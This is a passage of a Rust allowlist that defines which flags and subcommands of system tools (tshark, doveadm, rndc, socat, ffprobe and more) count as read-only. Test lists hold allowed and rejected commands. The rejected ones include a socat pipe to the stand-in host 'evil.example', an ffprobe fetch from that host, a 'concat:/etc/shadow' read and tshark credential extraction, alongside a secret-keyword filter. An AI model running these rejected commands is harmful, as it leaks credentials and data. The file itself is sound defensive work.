/// (model-specific registers: `info` needs the `msr` module, `monitor`
/// runs a command).
const CPUPOWER: Spec = Spec {
    flags: "dvh",
    valued: "c",
    long: &["debug", "version", "help"],
    long_valued: &["cpu"],
    permute: false,
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "frequency-info",
                spec: Some(&CPUPOWER_FREQUENCY),
            },
            Verb {
                names: "idle-info",
                spec: Some(&CPUPOWER_IDLE),
            },
        ],
        bare_ok: false,
    },
    ..Spec::GNU
};

/// atopsar(1), atop 2.8: reports from atop's daily raw files (`-r FILE`,
/// `-r y`; today's without). No interval operand: sampling the running
/// system starts atop writing its samples.
const ATOPSAR: Spec = Spec {
    flags: "AcpPmsldnjiIwWtThuUSaxCMHOz",
    valued: "rRbe",
    operands: Operands::None,
    ..Spec::POSIX
};

/// ffprobe(1), FFmpeg 5.1: a media file's streams and format. Options
/// are words with one dash. Not `-report` (writes a log file), `-o`
/// (writes its output), `-f`/`-protocol_whitelist`; the file is a local
/// path (no `proto:` input: `http:`, `tcp:`, `concat:` reach elsewhere).
const FFPROBE: Spec = Spec {
    flags: "",
    valued: "vi",
    long: &[
        "hide_banner",
        "show_format",
        "show_streams",
        "show_error",
        "show_chapters",
        "show_programs",
        "show_frames",
        "show_packets",
        "count_frames",
        "count_packets",
        "pretty",
        "sexagesimal",
        "unit",
        "prefix",
        "byte_binary_prefix",
    ],
    long_valued: &[
        "v",
        "loglevel",
        "show_entries",
        "select_streams",
        "of",
        "print_format",
        "read_intervals",
        "i",
    ],
    single_dash_long: true,
    checked: &[
        ("i", local_media),
        ("v", plain_level),
        ("loglevel", plain_level),
    ],
    operands: Operands::Names {
        at_most: 1,
        test: local_media,
    },
    ..Spec::POSIX
};

/// A media file named by path, no protocol (`http:`, `concat:`, `pipe:`).
fn local_media(word: &str) -> bool {
    // (Not a device or the kernel's files: review 50.)
    !word.is_empty()
        && !word.contains(':')
        && !word.starts_with('-')
        && !word.starts_with("/dev/")
        && !word.starts_with("/proc/")
        && !word.starts_with("/sys/")
}

/// A log level's name or number.
fn plain_level(word: &str) -> bool {
    word.chars().all(|c| c.is_ascii_alphanumeric() || c == '+')
}

/// vainfo(1), libva-utils 2.17: the VA-API driver's profiles, through a
/// DRM render node or X.
const VAINFO: Spec = Spec {
    flags: "a",
    long: &["all", "help"],
    long_valued: &["display", "device"],
    operands: Operands::None,
    ..Spec::GNU
};

/// fwupdmgr(1), fwupd 1.8: what it knows of the devices, their history
/// and its remotes (not `refresh`, `update`, `install`, `unlock`, …:
/// `rules::loss::firmware` and the table's absence).
const FWUPDMGR: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "get-devices|get-history|get-remotes|get-topology|get-approved-firmware|\
                    get-blocked-firmware|security|get-plugins",
            spec: Some(&FWUPDMGR_WORDS),
        }],
        bare_ok: false,
    },
    ..FWUPDMGR_WORDS
};
const FWUPDMGR_WORDS: Spec = Spec {
    flags: "v",
    long: &[
        "json",
        "verbose",
        "show-all",
        "no-unreported-check",
        "no-metadata-check",
        "no-reboot-check",
        "version",
        "help",
    ],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// edac-util(1): the memory controllers' error counts.
const EDAC_UTIL: Spec = Spec {
    flags: "svqh",
    valued: "r",
    long: &["status", "verbose", "quiet", "help", "version"],
    long_valued: &["report"],
    operands: Operands::None,
    ..Spec::GNU
};

/// ras-mc-ctl(8), rasdaemon 0.6: the recorded errors and the board's
/// layout (not `--register-labels`, which writes sysfs).
const RAS_MC_CTL: Spec = Spec {
    long: &[
        "summary",
        "errors",
        "status",
        "mainboard",
        "layout",
        "print-labels",
        "guess-labels",
        "help",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// lsscsi(8), 0.32: no option writes.
const LSSCSI: Spec = Spec {
    flags: "bcdDgHiklLNpPsStuUvVwxh",
    long: &[
        "brief",
        "classic",
        "device",
        "generic",
        "hosts",
        "ids",
        "kname",
        "list",
        "long",
        "lunhex",
        "no-nvme",
        "protection",
        "protmode",
        "scsi_id",
        "size",
        "sz-lbs",
        "transport",
        "unit",
        "verbose",
        "version",
        "wwn",
        "help",
    ],
    operands: Operands::AtMost(2),
    ..Spec::GNU
};

/// partx(8), util-linux 2.38: `--show` (and its output's shape); not
/// `--add`, `--delete`, `--update`, which change the kernel's table.
const PARTX: Spec = Spec {
    flags: "sgrPbv",
    valued: "otn",
    long: &[
        "show",
        "noheadings",
        "raw",
        "pairs",
        "bytes",
        "verbose",
        "help",
        "version",
    ],
    long_valued: &["output", "type", "nr", "sector-size"],
    operands: Operands::AtMost(2),
    ..Spec::GNU
};

/// driverctl(8): the overrides and devices it knows (not `set-override`,
/// `unset-override`, `load-override`).
const DRIVERCTL: Spec = Spec {
    flags: "v",
    long: &["verbose", "nosave", "help"],
    valued: "b",
    long_valued: &["bus"],
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list-devices|list-overrides|list-persisted",
            spec: Some(&PLAIN_WORDS),
        }],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// iucode_tool(8), 2.3: listing microcode bundles (not `-w`, `-W`, `-k`,
/// `-K`, which write files or load the kernel's).
const IUCODE_TOOL: Spec = Spec {
    // (`-S`: `--scan-system`, the processors' signatures; blind corpus
    // 113.)
    flags: "lLhqvS",
    valued: "st",
    long: &[
        "list",
        "list-all",
        "scan-system",
        "quiet",
        "verbose",
        "help",
        "version",
    ],
    long_valued: &["search", "type", "date-before", "date-after"],
    ..Spec::GNU
};

/// growpart(1), cloud-utils 0.33: only as its dry run (`-N`), which the
/// loss rule requires.
const GROWPART: Spec = Spec {
    flags: "Nv",
    long: &["dry-run", "verbose", "help"],
    operands: Operands::AtMost(2),
    ..Spec::GNU
};

/// sas2flash/sas3flash: the controllers' list (`-list`, `-listall`, `-c
/// N`); every other option flashes or erases.
const SASFLASH: Spec = Spec {
    valued: "c",
    long: &["list", "listall", "help"],
    single_dash_long: true,
    operands: Operands::None,
    ..Spec::ORDERED
};

/// logread (BusyBox, OpenWrt): the ring buffer's log (not `-F`: OpenWrt's
/// takes a file it writes the log to; review 54).
const LOGREAD: Spec = Spec {
    flags: "f",
    valued: "le",
    operands: Operands::None,
    ..Spec::POSIX
};

/// rrdtool(1), 1.7: reading a round-robin database (`fetch`, `info`,
/// `lastupdate`, `first`, `last`, `dump` to standard output); not
/// `update`, `create`, `tune`, `graph` (files), nor `-d`/`--daemon`
/// (rrdcached, any address).
const RRDTOOL_FETCH: Spec = Spec {
    flags: "a",
    valued: "rse",
    long: &["align-start"],
    long_valued: &["resolution", "start", "end"],
    operands: Operands::AtMost(2),
    ..Spec::GNU
};
const RRDTOOL_ONE: Spec = Spec {
    long_valued: &["rraindex"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};
const RRDTOOL: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "fetch",
                spec: Some(&RRDTOOL_FETCH),
            },
            Verb {
                names: "info|lastupdate|first|last|dump",
                spec: Some(&RRDTOOL_ONE),
            },
        ],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// vgcfgrestore(8) `--list`: the metadata backups of a volume group,
/// restored by nothing (the loss rule requires `--list`).
const VGCFGRESTORE_LIST: Spec = Spec {
    flags: "lv",
    valued: "f",
    long: &["list", "verbose", "help"],
    long_valued: &["file"],
    operands: Operands::AtMost(1),
    ..Spec::GNU
};

/// doveadm(1), Dovecot 2.3: who is logged in, a user's userdb fields,
/// mailbox names and counts, quotas, the auth penalty table, recent
/// errors, the services' state. Not `fetch` (mail itself), `auth`
/// (passdb lookups show password hashes), `expunge`, `purge`, `kick`,
/// `sync`, `backup`, `stats dump` (resets the counters).
const DOVEADM: Spec = Spec {
    flags: "Dv",
    valued: "f",
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "who|user|penalty",
                spec: Some(&DOVEADM_ARGS),
            },
            // (`service status`, `process status`, `instance list`: not
            // `service stop`, `instance remove`; review 55.)
            Verb {
                names: "service|process",
                spec: Some(&DOVEADM_STATUS),
            },
            Verb {
                names: "instance",
                spec: Some(&DOVEADM_INSTANCE),
            },
            Verb {
                names: "mailbox",
                spec: Some(&DOVEADM_MAILBOX),
            },
            Verb {
                names: "acl",
                spec: Some(&DOVEADM_ACL),
            },
            Verb {
                names: "sieve",
                spec: Some(&DOVEADM_SIEVE),
            },
            Verb {
                names: "replicator",
                spec: Some(&DOVEADM_REPLICATOR),
            },
            Verb {
                names: "quota",
                spec: Some(&DOVEADM_QUOTA),
            },
            Verb {
                names: "log",
                spec: Some(&DOVEADM_LOG),
            },
        ],
        bare_ok: false,
    },
    ..Spec::ORDERED
};
/// (Not `-S HOST:PORT`, which logs in to another server with the doveadm
/// password, nor `-F FILE`, users read from a file; review 56.)
const DOVEADM_ARGS: Spec = Spec {
    flags: "1Amt",
    // (`who -a`, `user -a`: a socket of Dovecot's own; review 82.)
    valued: "ufa",
    checked: &[("a", dovecot_socket)],
    operands: Operands::AtMost(8),
    ..Spec::POSIX
};
/// A socket under Dovecot's run folder.
fn dovecot_socket(value: &str) -> bool {
    (value.starts_with("/run/dovecot/") || value.starts_with("/var/run/dovecot/"))
        && !value.contains("/..")
}
verbs_then!(DOVEADM_MAILBOX, "list|status", DOVEADM_ARGS, false);
verbs_then!(DOVEADM_STATUS, "status", DOVEADM_ARGS, false);
verbs_then!(DOVEADM_INSTANCE, "list", DOVEADM_ARGS, false);
verbs_then!(DOVEADM_QUOTA, "get", DOVEADM_ARGS, false);
// (Blind corpus 95: a mailbox's ACL, a user's Sieve scripts, the
// replicator's queue.)
verbs_then!(DOVEADM_ACL, "get|rights", DOVEADM_ARGS, false);
verbs_then!(DOVEADM_SIEVE, "list|get", DOVEADM_ARGS, false);
verbs_then!(
    DOVEADM_REPLICATOR,
    "status|dsync-status",
    DOVEADM_ARGS,
    false
);
// (Not `log find`: it writes a test message at each priority, as `log
// test` does; review 57.)
verbs_then!(DOVEADM_LOG, "errors", DOVEADM_ARGS, false);

/// rndc(8), BIND 9.18: the server's and a zone's state (not `stop`,
/// `halt`, `reload`, `flush`, `delzone`, nor `dumpdb`, `secroots`,
/// `recursing`, `stats`, which write files; no `-s` other server).
const RNDC_SECROOTS: Spec = Spec {
    operands: Operands::Exactly {
        count: 1,
        test: standard_output,
    },
    ..Spec::POSIX
};

fn standard_output(word: &str) -> bool {
    word == "-"
}

const RNDC: Spec = Spec {
    // (Not `-k`/`-c`: a file rndc parses, whose errors quote it;
    // review 55.)
    valued: "p",
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "status|zonestatus|showzone|tsig-list",
                spec: Some(&RNDC_WORDS),
            },
            Verb {
                names: "signing",
                spec: Some(&RNDC_SIGNING),
            },
            Verb {
                names: "dnssec",
                spec: Some(&RNDC_DNSSEC),
            },
            // (Their `status` forms only: not `managed-keys refresh|sync|
            // destroy`, `serve-stale on|off|reset`, `validation on|off`;
            // blind corpus 94.)
            Verb {
                names: "managed-keys|serve-stale|validation",
                spec: Some(&RNDC_STATUS),
            },
            Verb {
                names: "nta",
                spec: Some(&RNDC_NTA),
            },
            // (`secroots -` prints the trust anchors; without `-` they are
            // written to named.secroots; blind corpus 117.)
            Verb {
                names: "secroots",
                spec: Some(&RNDC_SECROOTS),
            },
        ],
        bare_ok: false,
    },
    ..Spec::ORDERED
};
const RNDC_WORDS: Spec = Spec {
    flags: "l",
    operands: Operands::AtMost(3),
    ..Spec::ORDERED
};
verbs_then!(RNDC_STATUS, "status", RNDC_WORDS, false);
/// `rndc signing -list ZONE` (not `-clear`, `-nsec3param`, `-serial`).
const RNDC_SIGNING: Spec = Spec {
    long: &["list"],
    single_dash_long: true,
    required: &["list"],
    operands: Operands::AtMost(3),
    ..Spec::ORDERED
};
/// `rndc nta -dump` (not `-remove`, `-force`, a new anchor).
const RNDC_NTA: Spec = Spec {
    long: &["dump"],
    single_dash_long: true,
    required: &["dump"],
    operands: Operands::AtMost(2),
    ..Spec::ORDERED
};
/// `rndc dnssec -status ZONE` (not `-rollover`, `-checkds`, `-step`).
const RNDC_DNSSEC: Spec = Spec {
    long: &["status"],
    single_dash_long: true,
    operands: Operands::AtMost(3),
    ..Spec::ORDERED
};

/// qshape(1), Postfix 3.7: the queue's shape by domain and age.
const QSHAPE: Spec = Spec {
    flags: "slp",
    valued: "bct",
    operands: Operands::AtMost(4),
    ..Spec::POSIX
};

/// named-journalprint(1): a zone journal printed (not `-c`, `-d`,
/// `-u`, which rewrite it).
const NAMED_JOURNALPRINT: Spec = Spec {
    flags: "x",
    operands: Operands::AtMost(1),
    ..Spec::POSIX
};

/// socat(1): only `stdio` against HAProxy's admin socket, fed `show …`
/// commands (`rules::loss` makes every other use destructive).
const SOCAT: Spec = Spec {
    operands: Operands::AtMost(2),
    ..Spec::ORDERED
};

/// keactrl(8): `status` (not `start`, `stop`, `reload`; nor `-c FILE`,
/// which keactrl sources as a shell script; review 55).
const KEACTRL: Spec = Spec {
    valued: "s",
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "status",
            spec: Some(&PLAIN_WORDS),
        }],
        bare_ok: false,
    },
    ..Spec::POSIX
};

/// drill(1), ldns 1.8: a query to a resolver (not `-T`/`-S`, which walk
/// from the root servers, a place the line does not name; nor `-k`/`-r`
/// files).
const DRILL: Spec = Spec {
    flags: "46tuxDQ",
    valued: "pb",
    ..Spec::POSIX
};

/// A statistic `tshark -q -z` prints from a capture: counts per
/// conversation, endpoint, protocol, interval, expert note, RPC or SMB
/// call time, DNS and HTTP counts by kind. Not `follow` (a stream's
/// bytes), `credentials` (the logins it found), `http_req`/`http_srv`
/// (request addresses, tokens in their queries), `export` nor any other.
fn tshark_statistic(value: &str) -> bool {
    let mut parts = value.split(',');
    let first = parts.next().unwrap_or("");
    match first {
        "conv" | "endpoints" | "io" | "expert" | "rpc" | "dns" | "ptype" | "icmp" | "icmpv6"
        | "smb" | "smb2" | "ip_hosts" | "plen" | "dcerpc" | "rtp" | "sctp" => true,
        "http" => parts.next() == Some("tree"),
        _ => false,
    }
}

/// A field `tshark -T fields -e` prints: a header field of the lower
/// layers or a name lookup (addresses, ports, flags, lengths, times,
/// TCP's analysis, DNS names, TLS's server name), never a payload, a
/// login, a community, a cookie or an address with its query.
fn tshark_field(field: &str) -> bool {
    const LAYERS: &[&str] = &[
        "frame.",
        "eth.",
        "vlan.",
        "ip.",
        "ipv6.",
        "tcp.",
        "udp.",
        "icmp.",
        "icmpv6.",
        "arp.",
        "dns.",
        "lldp.",
        "cdp.",
        "stp.",
        "_ws.col.protocol",
        "tls.handshake.type",
        "tls.handshake.extensions_server_name",
        "tls.record.version",
        "vrrp.",
        "igmp.",
    ];
    const PAYLOAD: &[&str] = &[
        "payload",
        "data",
        "text",
        "auth",
        "pass",
        "community",
        "cookie",
        "token",
        "secret",
        "key",
        "cred",
        "user",
        "login",
        "uri",
        "arg",
        "file",
        "txt",
    ];
    let lower = field.to_ascii_lowercase();
    LAYERS
        .iter()
        .any(|l| lower.starts_with(l) || lower == l.trim_end_matches('.'))
        && !PAYLOAD.iter().any(|w| lower.contains(w))
}

/// tshark(1), Wireshark 4.2, reading a capture file into statistics
/// only (`-q -z STAT`) or into named header fields (`-T fields -e F`):
/// never a packet's bytes or its decoded text (as `-V`, `-x`, `-T json`
/// and the summary lines print them, a login among them). `-Y`/`-R` only
/// choose packets; `-2` reads twice; `-c` counts; `-n` resolves nothing;
/// `-E` shapes the fields' output. Not `-o` (a preference: a key log
/// file decrypts TLS), `-w`, `-i` (the wire), `-X` (Lua scripts).
const TSHARK_REPORT: Spec = Spec {
    flags: "Dqn2l",
    valued: "rYRczTeEtG",
    checked: &[
        ("z", tshark_statistic),
        ("T", |v| v == "fields"),
        // (`-G fields`, `protocols`, …: the glossaries Wireshark knows.)
        ("G", |v| {
            matches!(
                v,
                "fields"
                    | "protocols"
                    | "values"
                    | "decodes"
                    | "defaultprefs"
                    | "currentprefs"
                    | "folders"
                    | "ftypes"
                    | "heuristic-decodes"
                    | "plugins"
                    | "column-formats"
            )
        }),
        ("e", tshark_field),
        ("E", |v| {
            [
                "separator=",
                "header=",
                "quote=",
                "occurrence=",
                "aggregator=",
            ]
            .iter()
            .any(|p| v.starts_with(p))
        }),
    ],
    required: &["D", "q", "T", "G"],
    operands: Operands::None,
    ..Spec::POSIX
};

/// capinfos(1), Wireshark 4.0: a capture file's counts, times and sizes,
/// never its packets.
const CAPINFOS: Spec = Spec {
    flags: "tEcsdluaeyizxFHkKoSTrRBmbCNqQMnI",
    operands: Operands::Read,
    ..Spec::POSIX
};

/// dhcp-lease-list(8), isc-dhcp: the server's leases (addresses, MACs,
/// host names).
const DHCP_LEASE_LIST: Spec = Spec {
    long: &["parsable", "all", "help"],
    long_valued: &["lease"],
    operands: Operands::None,
    ..Spec::GNU
};

/// smartd(8) `-q showtests`: the self-tests its configuration would
/// schedule, then it exits (no check, no mail).
const SMARTD_SHOWTESTS: Spec = Spec {
    valued: "q",
    checked: &[("q", |v| v == "showtests")],
    required: &["q"],
    operands: Operands::None,
    ..Spec::POSIX
};

/// lxc-cgroup(1) `-n NAME KEY`: a container's cgroup value (a second
/// operand sets it). Not `-o` (a log file it writes).
const LXC_CGROUP: Spec = Spec {
    flags: "q",
    valued: "nPl",
    long: &["quiet"],
    long_valued: &["name", "lxcpath", "logpriority"],
    operands: Operands::Exactly {
        count: 1,
        test: |w| {
            w.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
        },
    },
    ..Spec::GNU
};

/// atop(1): the live view or, with `-r FILE`, a recorded day (`-b`/`-e`
/// its window; the display's letters). Not `-w` (writes a raw file).
const ATOP_REPLAY: Spec = Spec {
    flags: "gmdnsvcoyfFGaxCMDNAup1PhV",
    valued: "rbeL",
    operands: Operands::AtMost(2),
    ..Spec::POSIX
};

#[rustfmt::skip]
pub(super) const ENTRIES: &[Entry] = &[
    Entry {
        names: &["tshark"],
        spec: &TSHARK_REPORT,
        read_only: &[
            "tshark -D",
            "tshark -r /var/tmp/x.pcap -q -z conv,tcp",
            "tshark -r /var/tmp/x.pcap -q -z io,stat,10,tcp.analysis.retransmission",
            "tshark -r /var/tmp/dns.pcapng -Y 'dns.flags.rcode != 0' -T fields -e frame.time -e ip.src -e dns.qry.name",
            "tshark -r /var/tmp/x.pcap -q -z http,tree",
        ],
        not: &[
            "tshark -r /var/tmp/x.pcap -q -z follow,tcp,ascii,0",
            "tshark -r /var/tmp/x.pcap -q -z credentials",
            "tshark -r /var/tmp/x.pcap -T fields -e http.authorization",
            "tshark -r /var/tmp/x.pcap -T fields -e snmp.community",
            "tshark -r /var/tmp/x.pcap -T json",
            "tshark -r /var/tmp/x.pcap -Y http",
            "tshark -r /var/tmp/x.pcap -q -z http_req,tree",
            "tshark -r /var/tmp/x.pcap -q -o tls.keylog_file:/tmp/k -z conv,tcp",
            "tshark -i vmbr0 -q -z conv,tcp",
            "tshark -q -z conv,tcp",
            "tshark -i vmbr0",
            "tshark -r /tmp/x.pcap",
            "tshark -D -w /tmp/x",
        ],
    },
    Entry {
        names: &["capinfos"],
        spec: &CAPINFOS,
        read_only: &["capinfos /var/tmp/vmbr0.pcapng", "capinfos -c -u /tmp/x.pcap"],
        not: &["capinfos -w /tmp/x"],
    },
    Entry {
        names: &["dhcp-lease-list"],
        spec: &DHCP_LEASE_LIST,
        read_only: &["dhcp-lease-list --lease /var/lib/dhcp/dhcpd.leases", "dhcp-lease-list --parsable"],
        not: &["dhcp-lease-list --bogus"],
    },
    Entry {
        names: &["smartd"],
        spec: &SMARTD_SHOWTESTS,
        read_only: &["smartd -q showtests"],
        not: &["smartd", "smartd -q onecheck", "smartd -q never"],
    },
    Entry {
        names: &["lxc-cgroup"],
        spec: &LXC_CGROUP,
        read_only: &["lxc-cgroup -n 105 memory.current", "lxc-cgroup -n 105 cpu.max"],
        not: &["lxc-cgroup -n 105 memory.max 4G", "lxc-cgroup -n 105 -o /tmp/log memory.current"],
    },
    Entry {
        names: &["atop"],
        spec: &ATOP_REPLAY,
        read_only: &["atop -r /var/log/atop/atop_20240611 -b 14:00 -e 14:30", "atop -r /var/log/atop/atop_20240611 -m", "atop", "atop 5 3"],
        not: &["atop -w /tmp/x 10", "atop -a -w /tmp/x"],
    },
    Entry {
        names: &["doveadm"],
        spec: &DOVEADM,
        read_only: &[
            "doveadm who",
            "doveadm -f table who -1",
            "doveadm user alice",
            "doveadm mailbox list -u alice",
            "doveadm -f tab mailbox status -u carol 'messages unseen vsize' INBOX",
            "doveadm quota get -u bob",
            "doveadm penalty",
            "doveadm log errors",
        ],
        not: &[
            "doveadm fetch -u alice text mailbox INBOX",
            "doveadm auth lookup alice",
            "doveadm expunge -u alice mailbox Junk all",
            "doveadm kick alice",
            "doveadm stats dump",
            "doveadm service stop imap",
            "doveadm instance remove x",
        ],
    },
    Entry {
        names: &["rndc"],
        spec: &RNDC,
        read_only: &[
            "rndc status",
            "rndc signing -list home.lan",
            "rndc managed-keys status",
            "rndc nta -dump",
            "rndc zonestatus lab.example",
            "rndc showzone dev.lab.example",
            "rndc dnssec -status lab.example",
            "rndc secroots -",
        ],
        not: &[
            "rndc signing -clear all home.lan",
            "rndc managed-keys refresh",
            "rndc nta -remove home.lan",
            "rndc serve-stale off",
            "rndc reload",
            "rndc flush",
            "rndc -s 8.8.8.8 status",
            "rndc dumpdb -all",
            "rndc dnssec -rollover -key 1 lab.example",
        ],
    },
    Entry {
        names: &["qshape"],
        spec: &QSHAPE,
        read_only: &["qshape -s deferred", "qshape incoming active"],
        not: &["qshape -x"],
    },
    Entry {
        names: &["named-journalprint"],
        spec: &NAMED_JOURNALPRINT,
        read_only: &["named-journalprint /var/lib/bind/db.lab.jnl"],
        not: &[
            "named-journalprint -c 10 /var/lib/bind/db.lab.jnl",
            "named-journalprint -d /var/lib/bind/db.lab.jnl",
        ],
    },
    Entry {
        names: &["socat"],
        spec: &SOCAT,
        read_only: &[
            "echo 'show info' | socat stdio /run/haproxy/admin.sock",
            "echo \"show servers state be_web\" | socat stdio unix-connect:/run/haproxy/admin.sock",
        ],
        not: &[
            "echo 'set server be/web1 state drain' | socat stdio /run/haproxy/admin.sock",
            "echo 'show info; shutdown sessions server be/w' | socat stdio /run/haproxy/admin.sock",
            "socat stdio /run/haproxy/admin.sock",
            "echo 'show info' | socat stdio /tmp/x.sock",
            "echo 'show info' | socat stdio TCP:evil.example:80",
        ],
    },
    Entry {
        names: &["keactrl"],
        spec: &KEACTRL,
        read_only: &["keactrl status"],
        not: &["keactrl stop", "keactrl reload", "keactrl -c /tmp/x status"],
    },
    Entry {
        names: &["drill"],
        spec: &DRILL,
        read_only: &[
            "drill @10.0.0.53 pve1.lan",
            "drill -t @10.0.0.53 lab.lan MX",
        ],
        not: &["drill -T example.com", "drill -k /tmp/k example.com"],
    },
    Entry {
        names: &["fwupdmgr"],
        spec: &FWUPDMGR,
        read_only: &[
            "fwupdmgr get-devices",
            "fwupdmgr get-history --json",
            "fwupdmgr get-remotes",
        ],
        not: &[
            "fwupdmgr refresh",
            "fwupdmgr update -y",
            "fwupdmgr unlock 1",
        ],
    },
    Entry {
        names: &["edac-util"],
        spec: &EDAC_UTIL,
        read_only: &["edac-util -v", "edac-util --status", "edac-util -r full"],
        not: &["edac-util --bogus"],
    },
    Entry {
        names: &["ras-mc-ctl"],
        spec: &RAS_MC_CTL,
        read_only: &[
            "ras-mc-ctl --summary",
            "ras-mc-ctl --errors",
            "ras-mc-ctl --layout",
        ],
        not: &["ras-mc-ctl --register-labels"],
    },
    Entry {
        names: &["lsscsi"],
        spec: &LSSCSI,
        read_only: &["lsscsi -g", "lsscsi -s", "lsscsi --transport"],
        not: &["lsscsi -y /tmp"],
    },
    Entry {
        names: &["partx"],
        spec: &PARTX,
        read_only: &["partx --show /dev/sda", "partx -s -o NR,START,END /dev/sda"],
        not: &[
            "partx -a /dev/sda",
            "partx -d --nr 2 /dev/sda",
            "partx -u /dev/sda",
        ],
    },
    Entry {
        names: &["driverctl"],
        spec: &DRIVERCTL,
        read_only: &["driverctl list-overrides", "driverctl -b pci list-devices"],
        not: &[
            "driverctl set-override 0000:01:00.0 vfio-pci",
            "driverctl unset-override 0000:01:00.0",
        ],
    },
    Entry {
        names: &["iucode_tool"],
        spec: &IUCODE_TOOL,
        read_only: &[
            "iucode_tool -l /lib/firmware/intel-ucode/06-9e-0d",
            "iucode_tool -L --scan-system /lib/firmware/intel-ucode",
        ],
        not: &[
            "iucode_tool -k /lib/firmware/intel-ucode",
            "iucode_tool -w /tmp/x.bin /lib/firmware/intel-ucode",
        ],
    },
    Entry {
        names: &["growpart"],
        spec: &GROWPART,
        read_only: &["growpart --dry-run /dev/sda 3", "growpart -N /dev/vda 1"],
        not: &["growpart /dev/sda 3", "growpart -u force /dev/sda 3"],
    },
    Entry {
        names: &["sas2flash", "sas3flash"],
        spec: &SASFLASH,
        read_only: &["sas3flash -listall", "sas2flash -list -c 0"],
        not: &["sas3flash -o -f fw.bin", "sas2flash -o -e 6"],
    },
    Entry {
        names: &["logread"],
        spec: &LOGREAD,
        read_only: &["logread", "logread -l 50", "logread -e dropbear"],
        not: &["logread -x", "logread -F /tmp/log"],
    },
    Entry {
        names: &["rrdtool"],
        spec: &RRDTOOL,
        read_only: &[
            "rrdtool fetch /var/lib/rrdcached/db/pve2-node/pve1 AVERAGE -s -1h",
            "rrdtool info /var/lib/rrdcached/db/pve2-node/pve1",
            "rrdtool lastupdate /var/lib/rrdcached/db/pve2-node/pve1",
        ],
        not: &[
            "rrdtool update x.rrd N:1",
            "rrdtool fetch x.rrd AVERAGE -d unix:/tmp/s",
            "rrdtool dump x.rrd /tmp/x.xml",
            "rrdtool graph /tmp/x.png",
        ],
    },
    Entry {
        names: &["vgcfgrestore"],
        spec: &VGCFGRESTORE_LIST,
        read_only: &["vgcfgrestore --list pve", "vgcfgrestore -l pve"],
        not: &[
            "vgcfgrestore pve",
            "vgcfgrestore -f /etc/lvm/archive/pve_00001.vg pve",
        ],
    },
    Entry {
        names: &["ffprobe"],
        spec: &FFPROBE,
        read_only: &[
            "ffprobe -v error -select_streams v:0 -show_entries stream=codec_name,width,height -of csv=p=0 /mnt/media/a.mkv",
            "ffprobe -hide_banner -show_format -show_streams movie.mp4",
        ],
        not: &[
            "ffprobe -report x.mkv",
            "ffprobe http://evil.example/x.mkv",
            "ffprobe -i concat:/etc/shadow",
            "ffprobe -o /tmp/x x.mkv",
        ],
    },
    Entry {
        names: &["vainfo"],
        spec: &VAINFO,
        read_only: &[
            "vainfo",
            "vainfo --display drm --device /dev/dri/renderD128",
        ],
        not: &["vainfo extra"],
    },
    Entry {
        names: &["smem"],
        spec: &SMEM,
        read_only: &[
            "smem -rtk -c 'pid user name swap uss pss rss'",
            "smem -u -t -k",
            "smem -P nginx -s pss",
        ],
        not: &[
            "smem --pie name",
            "smem --bar pid",
            "smem -S /tmp/capture.tgz",
        ],
    },
    Entry {
        names: &["cpupower"],
        spec: &CPUPOWER,
        read_only: &[
            "cpupower frequency-info --policy",
            "cpupower -c all frequency-info -g",
            "cpupower idle-info",
        ],
        not: &[
            "cpupower frequency-set -g performance",
            "cpupower idle-set -d 2",
            "cpupower set -b 0",
            "cpupower monitor sleep 5",
        ],
    },
    Entry {
        names: &["atopsar"],
        spec: &ATOPSAR,
        read_only: &[
            "atopsar -m -r /var/log/atop/atop_20261201 -b 02:00 -e 04:00",
            "atopsar -c -r y",
            "atopsar -d",
        ],
        not: &["atopsar -c 5 10", "atopsar -w /tmp/x"],
    },
    Entry {
        names: &["numastat"],
        spec: &NUMASTAT,
        read_only: &[
            "numastat -m",
            "numastat -c qemu-system-x86_64",
            "numastat -p 1234 -z",
            "numastat -s0 -m",
        ],
        not: &["numastat -m > /etc/numa.txt"],
    },
    Entry {
        names: &["systemd-cgtop"],
        spec: &SYSTEMD_CGTOP,
        read_only: &[
            "systemd-cgtop -b -n 1",
            "systemd-cgtop -b -n 1 -m",
            "systemd-cgtop --batch --iterations=2 --order=memory --depth=2 /system.slice",
        ],
        not: &["systemd-cgtop -M web1 -b -n 1"],
    },
    Entry {
        names: &["corosync-cmapctl"],
        spec: &COROSYNC_CMAPCTL,
        read_only: &[
            "corosync-cmapctl runtime.votequorum",
            "corosync-cmapctl -g runtime.votequorum.this_node_id",
            "corosync-cmapctl -m stats stats.knet",
            "corosync-cmapctl nodelist members",
        ],
        not: &[
            "corosync-cmapctl",
            "corosync-cmapctl totem",
            "corosync-cmapctl totem.key",
            "corosync-cmapctl t",
            "corosync-cmapctl -s totem.token u32 3000",
            "corosync-cmapctl -d nodelist.node.2.name",
            "corosync-cmapctl -p /tmp/changes",
            "corosync-cmapctl -m evil x",
            "corosync-cmapctl -b",
        ],
    },
    Entry {
        names: &["debsums"],
        spec: &DEBSUMS,
        read_only: &[
            "debsums -s",
            "debsums -c",
            "debsums -as nginx",
            "debsums -l",
        ],
        not: &[
            "debsums -g",
            "debsums --generate=missing",
            "debsums -s -g all",
        ],
    },
    Entry {
        names: &["crushtool"],
        spec: &CRUSHTOOL,
        read_only: &[
            "crushtool -d /tmp/crush.bin",
            "crushtool -i /root/crush.bin --test --rule 1 --num-rep 3 --show-statistics",
        ],
        not: &[
            "crushtool -c /tmp/crush.txt -o /tmp/crush.bin",
            "crushtool -d /tmp/crush.bin -o /tmp/crush.txt",
            "crushtool -i /tmp/crush.bin --reweight-item osd.1 0 -o /tmp/x",
        ],
    },
    Entry {
        names: &["ceph-conf"],
        spec: &CEPH_CONF,
        read_only: &[
            "ceph-conf --show-config-value osd_pool_default_size",
            "ceph-conf --name osd.4 --show-config-value osd_data",
            "ceph-conf --list-all-sections",
        ],
